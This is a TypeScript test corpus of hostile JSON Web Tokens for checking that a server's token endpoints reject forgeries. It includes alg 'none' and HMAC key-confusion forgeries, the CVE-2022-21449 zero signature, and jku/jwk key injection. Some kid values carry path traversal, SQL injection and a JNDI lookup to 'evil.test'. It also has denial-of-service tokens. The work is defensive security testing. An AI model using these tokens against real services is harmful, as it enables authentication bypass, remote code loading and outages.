/**
 * Hostile JWTs, as data: each entry is made from what would be accepted, and differs from it in the one way that its
 * name says. Every inlet for somebody else's JWT is shown all of them (inlets.ts).
 */
import { createHmac, createPublicKey, type KeyObject, randomBytes, sign as signBytes } from 'node:crypto';
import { SignJWT } from 'jose';
import { type ClientKey, clientKey } from './request-objects.js';

type Json = Record<string, unknown>;

/** What an inlet accepts, taken apart. */
export interface Genuine {
  /** The key that the client registered. ES256. */
  readonly key: ClientKey;
  /** Claims that are accepted, with a new jti each time. */
  readonly claims: () => Json;
  /** The type that the inlet's tokens have. */
  readonly typ?: string;
  /** An address that somebody watches. */
  readonly trap: string;
}

/** One hostile token. */
export type Entry = readonly [name: string, make: (genuine: Genuine) => string | Promise<string>];

/** JSON, raw text or raw bytes, in base64url. */
function encode(part: unknown): string {
  if (Buffer.isBuffer(part)) return part.toString('base64url');
  return Buffer.from(typeof part === 'string' ? part : JSON.stringify(part)).toString('base64url');
}

/** The header that the inlet accepts. */
export function headerOf({ key, typ }: Genuine, more: Json = {}): Json {
  return { alg: key.alg, kid: key.kid, ...(typ === undefined ? {} : { typ }), ...more };
}

/** A compact JWS over whatever these parts are, signed by a P-256 key. */
export function signRaw(privateKey: KeyObject, header: unknown, payload: unknown): string {
  return signInput(privateKey, `${encode(header)}.${encode(payload)}`);
}

function signInput(privateKey: KeyObject, input: string): string {
  const signature = signBytes('sha256', Buffer.from(input), { key: privateKey, dsaEncoding: 'ieee-p1363' });
  return `${input}.${signature.toString('base64url')}`;
}

const genuine = (of: Genuine, header: Json = {}, claims: Json = {}) =>
  signRaw(of.key.privateKey, headerOf(of, header), { ...of.claims(), ...claims });
/** Signed by the right key, with these texts or bytes instead of what belongs there. */
const withHeader = (of: Genuine, header: unknown) => signRaw(of.key.privateKey, header, of.claims());
const withPayload = (of: Genuine, payload: unknown) => signRaw(of.key.privateKey, headerOf(of), payload);

const unsigned = (of: Genuine, alg: unknown, signature = '') =>
  `${encode(headerOf(of, { alg }))}.${encode(of.claims())}.${signature}`;

/** A MAC whose key is the public key of the client, in one of the forms in which a library may hold it. */
function mac(of: Genuine, form: (key: KeyObject) => string | Buffer): string {
  const secret = form(createPublicKey({ key: of.key.jwk as never, format: 'jwk' }));
  const input = `${encode(headerOf(of, { alg: 'HS256' }))}.${encode(of.claims())}`;
  return `${input}.${createHmac('sha256', secret).update(input).digest('base64url')}`;
}
const pem = (key: KeyObject) => key.export({ format: 'pem', type: 'spki' }).toString();
const jwk = (key: KeyObject) => JSON.stringify(key.export({ format: 'jwk' }));

const stranger = clientKey('ES256', 'stranger');
const rsa = clientKey('RS256', 'rsa');

/** What the signature may say, and who may have made it (RFC 8725 §3.1). */
export const algCorpus: readonly Entry[] = [
  ...[
    'none',
    'None',
    'nOnE',
    'NONE',
    '',
    'ES256K',
    'es256',
    'RS256',
    'PS256',
    'EdDSA',
    'HS256',
    'dir',
  ].flatMap((alg): Entry[] => [
    [`alg ${JSON.stringify(alg)}, unsigned`, (of) => unsigned(of, alg)],
    [`alg ${JSON.stringify(alg)}, over a genuine signature`, (of) => genuine(of, { alg })],
  ]),
  ['alg missing', (of) => genuine(of, { alg: undefined })],
  ['alg null', (of) => genuine(of, { alg: null })],
  ['alg in a list', (of) => genuine(of, { alg: ['ES256'] })],
  ['a MAC keyed with the public key as PEM', (of) => mac(of, pem)],
  ['a MAC keyed with the PEM without its last line break', (of) => mac(of, (key) => pem(key).trim())],
  [
    'a MAC keyed with the public key as DER',
    (of) => mac(of, (key) => key.export({ format: 'der', type: 'spki' })),
  ],
  ['a MAC keyed with the JWK', (of) => mac(of, jwk)],
  ['a MAC keyed with the JWK and a line break', (of) => mac(of, (key) => `${jwk(key)}\n`)],
  ['a MAC keyed with nothing', (of) => mac(of, () => '')],
  ['r = s = 0 (CVE-2022-21449)', (of) => unsigned(of, 'ES256', Buffer.alloc(64).toString('base64url'))],
  ['a random signature', (of) => unsigned(of, 'ES256', randomBytes(64).toString('base64url'))],
  ['a signature that is too short', (of) => unsigned(of, 'ES256', 'AAAA')],
  [
    'a signature in DER',
    (of) => {
      const input = `${encode(headerOf(of))}.${encode(of.claims())}`;
      return `${input}.${signBytes('sha256', Buffer.from(input), of.key.privateKey).toString('base64url')}`;
    },
  ],
  [
    "somebody else's key under the kid of the client",
    (of) => signRaw(stranger.privateKey, headerOf(of), of.claims()),
  ],
  [
    "somebody else's RSA key under the kid of the client",
    (of) =>
      new SignJWT(of.claims())
        .setProtectedHeader(headerOf(of, { alg: 'RS256' }) as never)
        .sign(rsa.privateKey),
  ],
  [
    'a signature over other claims',
    (of) => {
      const [header, , signature] = genuine(of).split('.');
      return `${header}.${encode(of.claims())}.${signature}`;
    },
  ],
  ['b64 false', (of) => genuine(of, { b64: false, crit: ['b64'] })],
  ['b64 true', (of) => genuine(of, { b64: true })],
  ['an unknown crit', (of) => genuine(of, { crit: ['x'], x: 1 })],
  ['an empty crit', (of) => genuine(of, { crit: [] })],
  ['a crit that names what is not there', (of) => genuine(of, { crit: ['exp'] })],
  ['a detached payload', (of) => genuine(of).replace(/\.[^.]+\./, '..')],
  ['no signature', (of) => genuine(of).replace(/\.[^.]+$/, '.')],
  ['no header', (of) => genuine(of).replace(/^[^.]+\./, '.')],
  ['two parts', (of) => genuine(of).replace(/\.[^.]+$/, '')],
  ['four parts', (of) => `${genuine(of)}.AAAA`],
  ['four parts, the last of them empty', (of) => `${genuine(of)}.`],
  ['five parts', (of) => `${genuine(of)}.AAAA.AAAA`],
  ['only dots', () => '..'],
  ['ten thousand dots', () => '.'.repeat(8_000)],
  ['no dot', () => 'x'],
  [
    'JSON serialisation',
    (of) => {
      const [header, payload, signature] = genuine(of).split('.');
      return JSON.stringify({ payload, protected: header, signature });
    },
  ],
];

/** What a header may bring along to choose the key (RFC 7515 §4.1, RFC 8725 §3.10). */
export const headerCorpus: readonly Entry[] = [
  ...(['jku', 'x5u'] as const).flatMap((name): Entry[] => [
    [`${name}, with the genuine key`, (of) => genuine(of, { [name]: of.trap })],
    [
      `${name}, with the key that is there`,
      (of) => signRaw(stranger.privateKey, headerOf(of, { kid: stranger.kid, [name]: of.trap }), of.claims()),
    ],
  ]),
  ['jwk, with the genuine key', (of) => genuine(of, { jwk: of.key.jwk })],
  [
    'jwk, self-signed',
    (of) => signRaw(stranger.privateKey, headerOf(of, { jwk: stranger.jwk }), of.claims()),
  ],
  [
    'jwk, self-signed, without a kid',
    (of) => signRaw(stranger.privateKey, headerOf(of, { jwk: stranger.jwk, kid: undefined }), of.claims()),
  ],
  ['x5c', (of) => genuine(of, { x5c: ['MIIB'] })],
  ...[
    ...['../../etc/passwd', "' OR 1=1--", '%00', '\0', 'a\0b', '', ' ', 'x'.repeat(257), 'k'.repeat(5_000)],
    ...['\n', 'é', '__proto__', 'constructor', 'https://evil.test/jwks', '${jndi:ldap://evil.test}'],
    ...[[], ['k-ES256'], {}, 1, 0, true, null],
  ].map((kid): Entry => [`kid ${JSON.stringify(kid)?.slice(0, 40)}`, (of) => genuine(of, { kid })]),
  ['typ of something else', (of) => genuine(of, { typ: 'at+jwt' })],
  ['typ that is no text', (of) => genuine(of, { typ: 1 })],
  ['zip', (of) => genuine(of, { zip: 'DEF' })],
  ['enc', (of) => genuine(of, { enc: 'A256GCM' })],
  ['a JWE with a bomb in it', () => `${encode({ alg: 'dir', enc: 'A256GCM', zip: 'DEF' })}..AAAA.AAAA.AAAA`],
  [
    'a JWE with ten million rounds (PBES2)',
    () =>
      `${encode({ alg: 'PBES2-HS256+A128KW', enc: 'A256GCM', p2c: 10_000_000, p2s: 'AAAA' })}.AAAA.AAAA.AAAA.AAAA`,
  ],
  ['a JWE with RSA1_5', () => `${encode({ alg: 'RSA1_5', enc: 'A128CBC-HS256' })}.AAAA.AAAA.AAAA.AAAA`],
  [
    'a JWE header over three parts',
    (of) => genuine(of, { alg: 'PBES2-HS256+A128KW', p2c: 10_000_000, p2s: 'AAAA' }),
  ],
];

const NOT_OBJECTS = [
  'null',
  '[]',
  '"x"',
  '1',
  'true',
  '',
  ' ',
  '{',
  '{}x',
  '[[[[[[[[',
  '\ufeff{}',
  "{'a':1}",
];
const raw = (claims: Json, more: string) => `${JSON.stringify(claims).slice(0, -1)},${more}}`;
const nested = (depth: number) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;

/** What JSON may hold, and in which letters it may come (RFC 8725 §2.4, §3.7). */
export const jsonCorpus: readonly Entry[] = [
  ...NOT_OBJECTS.flatMap((text): Entry[] => [
    [`${JSON.stringify(text)} as header`, (of) => withHeader(of, text)],
    [`${JSON.stringify(text)} as payload`, (of) => withPayload(of, text)],
  ]),
  ['an empty header', (of) => withHeader(of, {})],
  ['empty claims', (of) => withPayload(of, {})],
  ['a header member twice', (of) => withHeader(of, raw(headerOf(of), '"alg":"ES256"'))],
  [
    'a claim twice, the same',
    (of) => {
      const claims = of.claims();
      return withPayload(of, raw(claims, `"iss":${JSON.stringify(claims['iss'])}`));
    },
  ],
  ['a claim twice, differently', (of) => withPayload(of, raw(of.claims(), '"exp":1'))],
  ['a claim twice, once escaped', (of) => withPayload(of, raw(of.claims(), '"\\u0073ub":"x"'))],
  ['a member twice within a claim', (of) => withPayload(of, raw(of.claims(), '"x":{"y":[{"z":1,"z":2}]}'))],
  ...[...[[], [1], [null], {}, 1, true, null, [['x']]]].map(
    (aud): Entry => [`aud ${JSON.stringify(aud)}`, (of) => genuine(of, {}, { aud })],
  ),
  ['aud with something else in it', (of) => genuine(of, {}, { aud: [of.claims()['aud'], 1] })],
  ...['exp', 'nbf', 'iat'].flatMap((name) =>
    [...['9999999999', '', [9_999_999_999], {}, true, null, -1, 1.5, 1e308, 2 ** 53, 253_402_300_800]].map(
      (value): Entry => [`${name} ${JSON.stringify(value)}`, (of) => genuine(of, {}, { [name]: value })],
    ),
  ),
  ['exp beyond any number', (of) => withPayload(of, raw({ ...of.claims(), exp: undefined }, '"exp":1e999'))],
  ['exp passed long ago', (of) => genuine(of, {}, { exp: 1 })],
  ['nbf in an hour', (of) => genuine(of, {}, { nbf: Number(of.claims()['exp']) + 3_600 })],
  ['iat in an hour', (of) => genuine(of, {}, { iat: Number(of.claims()['exp']) + 3_600 })],
  ...[1, [], {}, true, null].flatMap((value): Entry[] => [
    [`iss ${JSON.stringify(value)}`, (of) => genuine(of, {}, { iss: value })],
    [`jti ${JSON.stringify(value)}`, (of) => genuine(of, {}, { jti: value })],
  ]),
  ...['iss', 'sub', 'jti', 'aud'].map(
    (name): Entry => [`a NUL in ${name}`, (of) => genuine(of, {}, { [name]: `${of.claims()[name]}\0` })],
  ),
  ...['iss', 'sub', 'jti', 'aud'].map(
    (name): Entry => [
      `half a pair of surrogates in ${name}`,
      (of) => genuine(of, {}, { [name]: `${of.claims()[name]}\ud800` }),
    ],
  ),
  ['a jti of 10 KB', (of) => genuine(of, {}, { jti: 'x'.repeat(10_000) })],
  ['a deep header', (of) => withHeader(of, raw(headerOf(of), `"x":${nested(200)}`))],
  ['deep claims', (of) => withPayload(of, raw(of.claims(), `"x":${nested(200)}`))],
  ['deep lists', (of) => withPayload(of, raw(of.claims(), `"x":${'['.repeat(900)}${']'.repeat(900)}`))],
  ['20 KB', (of) => genuine(of, {}, { x: 'x'.repeat(20_000) })],
  ['1 MB', (of) => genuine(of, {}, { x: 'x'.repeat(1_000_000) })],
  ...[[0xff], [0xc0, 0xaf], [0xed, 0xa0, 0x80], [0xf5, 0x80, 0x80, 0x80]].map(
    (bytes): Entry => [
      `the bytes ${Buffer.from(bytes).toString('hex')}, which are no UTF-8`,
      (of) => {
        const text = Buffer.from(raw(of.claims(), '"x":"?"'));
        const at = text.lastIndexOf('?');
        return withPayload(
          of,
          Buffer.concat([text.subarray(0, at), Buffer.from(bytes), text.subarray(at + 1)]),
        );
      },
    ],
  ),
  ['UTF-16', (of) => withPayload(of, Buffer.from(JSON.stringify(of.claims()), 'utf16le'))],
  ...[0, 1, 2].flatMap((part): Entry[] => [
    [`padding behind part ${part + 1}`, (of) => changed(of, part, (text) => `${text}=`)],
    [
      `a space in part ${part + 1}`,
      (of) => changed(of, part, (text) => `${text.slice(0, 4)} ${text.slice(4)}`),
    ],
    [`a line break in part ${part + 1}`, (of) => changed(of, part, (text) => `${text}\n`)],
    [
      `a letter of no alphabet in part ${part + 1}`,
      (of) => changed(of, part, (text) => `${text.slice(0, 4)}!${text.slice(4)}`),
    ],
    [`the other alphabet in part ${part + 1}`, (of) => changed(of, part, (text) => `${text}+/`)],
  ]),
  [
    'bits that nobody reads behind the signature',
    (of) => {
      // 64 bytes end in the middle of a letter: its last four bits are to be zero.
      const token = genuine(of);
      const letters = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
      return token.slice(0, -1) + letters[letters.indexOf(token.at(-1) ?? '') + 1];
    },
  ],
];

/** One part changed, under a signature that covers the change where it can. */
function changed(of: Genuine, part: number, change: (text: string) => string): string {
  const parts = [encode(headerOf(of)), encode(of.claims())];
  if (part === 2) {
    const signed = genuine(of).split('.');
    return [signed[0], signed[1], change(signed[2] ?? '')].join('.');
  }
  parts[part] = change(parts[part] ?? '');
  return signInput(of.key.privateKey, parts.join('.'));
}

/** A token that has nothing wrong with it: whatever is refused is refused for what its name says. */
export function flawless(of: Genuine, claims: Json = {}, header: Json = {}): string {
  return genuine(of, header, claims);
}
